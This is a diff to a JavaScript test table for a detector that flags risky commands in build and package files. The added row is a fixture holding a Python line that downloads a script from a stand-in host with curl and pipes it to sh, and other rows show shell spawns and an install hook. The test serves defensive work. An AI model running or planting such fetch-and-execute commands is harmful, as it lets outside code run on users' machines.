@@ -46,6 +46,7 @@ test.each([
   ['conanfile.py', 'os.system("sh")', true],
   ['mix.exs', 'System.cmd("sh", [])', true],
   ['src/run.py', 'import subprocess', false],
+  ['src/run.py', 'import os\nos.system("curl https://x.example/a | sh")', true],
   ['composer.json', '{"scripts":{"post-install-cmd":"x"}}', true],
 ])('%s with %j: %s', (name, text, risky) => {
   expect(riskAt(`/nowhere/${name}`)?.(text) !== undefined).toBe(risky)
